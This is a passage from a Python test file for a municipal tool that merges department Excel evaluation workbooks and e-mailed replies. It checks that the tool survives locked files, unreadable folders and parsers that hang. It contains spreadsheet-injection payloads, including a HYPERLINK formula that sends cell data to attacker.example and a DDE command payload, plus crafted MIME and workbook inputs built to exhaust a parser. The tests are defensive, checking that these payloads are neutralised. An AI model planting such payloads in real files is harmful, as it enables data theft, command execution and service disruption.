            raise PermissionError(13, "別のプロセスが使用中です", str(dst))
        real(src, dst)

    monkeypatch.setattr(atomic, "REPLACE_RETRY_DELAYS", ())
    monkeypatch.setattr(atomic.os, "replace", replace)
    result = invoke("merge", "--inbox", str(inbox), "--outbox", str(outbox))
    assert result.exit_code == 0, result.output
    assert target.read_bytes() == before
    (written,) = [p for p in outbox.glob(f"{target.stem}_*.xlsx")]
    assert re.fullmatch(rf"{re.escape(target.stem)}_\d{{8}}-\d{{6}}\.xlsx", written.name)
    assert distinct_evaluations(written) == 69
    notice = (f"注意: 集約ブック {MASTER} が開かれていたため(Excel など)、{written.name} に書き出しました。"
              f"{MASTER} は古い内容のままです。閉じておけば、次の集約で {MASTER} に書き直します。")
    assert notice in result.output
    report = json.loads((outbox / "run-report.json").read_text(encoding="utf-8"))
    assert Path(report["master"]) == written and report["notices"] == [notice.removeprefix("注意: ")]
    assert temporaries(outbox) == []


def test_an_unreadable_inbox_exits_3(
    inbox: Path, outbox: Path, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    # chmod 000 does not stop root (the tests' user), so the refusal is simulated
    real = os.scandir

    def scandir(path=".", *args):
        if Path(path) == inbox:
            raise PermissionError(13, "Permission denied", str(path))
        return real(path, *args)

    monkeypatch.chdir(tmp_path)
    monkeypatch.setattr(os, "scandir", scandir)
    result = invoke("merge", "--inbox", str(inbox), "--outbox", str(outbox))
    assert result.exit_code == 3
    assert f"エラー: 受信フォルダー {inbox} を読めません" in result.output
    assert not (outbox / MASTER).exists()


# --- output safety: nothing a department types becomes a formula, a link or DDE ----------------

PAYLOADS = [
    '=HYPERLINK("http://attacker.example/?q="&A1,"詳細")',
    "=cmd|' /C calc'!A0",
    "+81-42-000-0000 へ問い合わせ",
    "-2件(前年比)",
    "@SUM(A1:A2)",
    "\t=1+1 タブで始まる",
    "\r=1+1 復帰で始まる",
    "＝SUM(A1:A2) 全角",
    "＋1 全角",
    "－1 全角",
    "＠SUM(A1) 全角",
    "{=1+1}",
    "http://attacker.example/x",
]


def test_department_text_never_becomes_a_formula_link_or_dde_in_any_workbook_we_write(
    inbox: Path, outbox: Path
) -> None:
    path = inbox / "R6_地域福祉計画評価_地域福祉課.xlsx"
    wb = openpyxl.load_workbook(path)
    ws = wb["記入シート"]
    for i, text in enumerate(PAYLOADS):
        for col in "FH":
            cell = ws[f"{col}{4 + i}"]
            cell.value = text
            cell.data_type = "s"  # typed as text, as Excel stores '=… or a pasted value
    ws["G33"] = "E"  # one error (a row without payloads), so that a feedback copy is written too
    wb.save(path)
    run = run_merge(Settings(inbox=inbox, outbox=outbox))
    written = [run.master, run.summary, *run.feedback]
    assert any(p.parent.name == "feedback" for p in written)
    payload_bits = [t.strip("\t\r")[:12] for t in PAYLOADS]
    for book in written:
        with zipfile.ZipFile(book) as z:
            names = z.namelist()
            assert not [n for n in names if n.startswith("xl/externalLinks/")], book.name
            for name in names:
                if not name.endswith((".xml", ".rels")):
                    continue
                xml = z.read(name).decode("utf-8")
                assert "ddeLink" not in xml and 'TargetMode="External"' not in xml, (book.name, name)
                if name.startswith("xl/worksheets/") and name.count("/") == 2:
                    formulas = re.findall(r"<f(?:\s[^>]*)?>(.*?)</f>", xml, re.S)
                    assert not [f for f in formulas if any(b in f for b in payload_bits) or "|" in f], (
                        book.name,
                        formulas,
                    )
                    for link in re.findall(r"<hyperlink\b[^>]*>", xml):  # ours only: in-book links
                        assert "location=" in link and "r:id=" not in link, (book.name, link)
    # and in the master each payload is a plain string cell (control characters cleaned)
    texts = {c.value: c.data_type for ws in openpyxl.load_workbook(run.master).worksheets
             for row in ws.iter_rows() for c in row if isinstance(c.value, str)}  # fmt: skip
    for text in PAYLOADS:
        if text.startswith(("\t", "\r")):
            continue  # surrounding tabs and CRs are cleaned away (value-normalised)
        assert texts.get(text) == "s", text


# --- a parser that does not finish: one file's issue, on the fork and the spawn paths -----------
# The e-mail parser and openpyxl's annotation run in the contained worker, as calamine does: a
# file that makes either of them grind until the parse timeout or the memory cap ends as an issue
# on that file, and the night completes. Both start methods are exercised here whatever the
# platform's default (CI also runs the suite with os.fork removed, where only spawn runs).


@pytest.fixture(params=["fork", "spawn"])
def start_method(request: pytest.FixtureRequest, monkeypatch: pytest.MonkeyPatch) -> str:
    from pipeline.reader import sandbox

    if request.param not in sandbox.start_methods():
        pytest.skip(f"{request.param} is not a start method here (no os.fork)")
    monkeypatch.setenv(sandbox.START_METHOD_ENV, request.param)
    return request.param


def name_in_pieces_mail(attachment: bytes, name: str, pieces: int = 100_000) -> bytes:
    """A reply carrying one workbook whose file name is sent as `pieces` RFC 2231 continuations
    (filename*0*=…; filename*1*=…, one percent-encoded byte each): legal MIME that the e-mail
    parser's reassembly of the name does not finish within the parse timeout."""
    import base64

    encoded = name.encode("utf-8")
    params = "; ".join(f"filename*{i}*=%{encoded[i % len(encoded)]:02X}" for i in range(pieces))
    return (
        "From: kenkou@city.example.lg.jp\r\nTo: chiiki@city.example.lg.jp\r\n"
        "Subject: =?UTF-8?B?" + base64.b64encode("評価表の提出".encode()).decode() + "?=\r\n"
        "Date: Tue, 20 May 2025 10:00:00 +0900\r\nMIME-Version: 1.0\r\n"
        'Content-Type: multipart/mixed; boundary="b1"\r\n\r\n'
        "--b1\r\nContent-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n"
        "よろしくお願いします。\r\n"
        "--b1\r\nContent-Type: application/vnd.openxmlformats-officedocument.spreadsheetml.sheet\r\n"
        f"Content-Disposition: attachment; {params}\r\n"
        "Content-Transfer-Encoding: base64\r\n\r\n"
        + base64.encodebytes(attachment).decode().replace("\n", "\r\n")
        + "--b1--\r\n"
    ).encode("utf-8")


def test_a_mail_the_parser_cannot_finish_is_that_files_issue_and_the_night_completes(
    start_method: str, inbox: Path, outbox: Path
) -> None:
    mail = inbox / "健康課_返信.eml"
    mail.write_bytes(name_in_pieces_mail((inbox / SOURCE).read_bytes(), SOURCE))
    run = run_merge(Settings(inbox=inbox, outbox=outbox))
    verdict = next(f for f in run.files if f.name == mail.name)
    assert (verdict.status, [i.code for i in verdict.issues]) == ("rejected", ["email-unreadable"])
    issue = verdict.issues[0]
    assert "timeout" in issue.message and "秒以内に終わらなかった" in issue.message  # stopped, not finished
    assert "保存し直す" in issue.message  # and the department is told what to do
    others = {f.name: f.status for f in run.files if f.name != mail.name}
    assert len(others) == 12 and set(others.values()) == {"accepted"}
    assert run.exit_code == 1 and run.report["rows"] == 69
    wb = openpyxl.load_workbook(run.master, read_only=True)
    assert sum(1 for r in wb["評価一覧"].iter_rows(min_row=2, values_only=True) if r[0] is not None) == 69


def test_a_workbook_openpyxl_cannot_annotate_is_that_files_issue_and_the_night_completes(
    start_method: str, inbox: Path, outbox: Path
) -> None:
    """Our 差し戻し copy sent back, still wrong, with one formatted empty cell far down and right
    (GR100000): calamine and the gate see a one-row return, but openpyxl, clearing our old marks
    from the copy, walks every cell of A1:GR100000 (20 million) and never finishes within the
    reader's memory cap and timeout."""
    from datetime import UTC, datetime, timedelta

    from openpyxl.styles import PatternFill
    from returns import set_saved

    spoilt = inbox / SOURCE
    wb = openpyxl.load_workbook(spoilt)
    wb["記入シート"]["G4"] = "E"
    wb.save(spoilt)
    first = run_merge(Settings(inbox=inbox, outbox=outbox))
    copy = outbox / "feedback" / f"指導室_{SOURCE}"  # the office, then the name in the inbox
    assert first.exit_code == 1 and copy.exists()

    resent = inbox / "R6_地域福祉計画評価_指導室_修正.xlsx"
    wb = openpyxl.load_workbook(copy)
    assert wb.sheetnames[0] == "エラー一覧"
    wb["記入シート"]["GR100000"].fill = PatternFill(fill_type="solid", fgColor="FFFFFF00")
    wb.save(resent)
    later = datetime.now(UTC) + timedelta(hours=1)
    set_saved(resent, later)  # re-saved by the department, not a copy of ours left as it was
    os.utime(resent, (later.timestamp(), later.timestamp()))

    run = run_merge(Settings(inbox=inbox, outbox=outbox))
    verdict = next(f for f in run.files if f.name == resent.name)
    assert verdict.status == "rejected" and "rating-invalid" in [i.code for i in verdict.issues]
    [note] = [n for n in run.outcome.notes if n.file == resent.name and n.code == "feedback-not-written"]
    assert "SandboxError" in note.message and ("timeout" in note.message or "memory" in note.message)
    assert not (outbox / "feedback" / f"指導室_{resent.name}").exists()
    assert [p.name for p in run.feedback] == [copy.name]  # the other copy is still there
    others = {f.name: f.status for f in run.files if f.name not in (resent.name, SOURCE)}
    assert len(others) == 11 and set(others.values()) == {"accepted"}
    assert run.exit_code == 1 and run.report["rows"] == 68  # 指導室's one row is wrong in both files
    report = json.loads(run.report_path.read_text(encoding="utf-8"))
    entry = next(f for f in report["files"] if f["name"] == resent.name)
    assert "feedback-not-written" in [i["code"] for i in entry["issues"]]
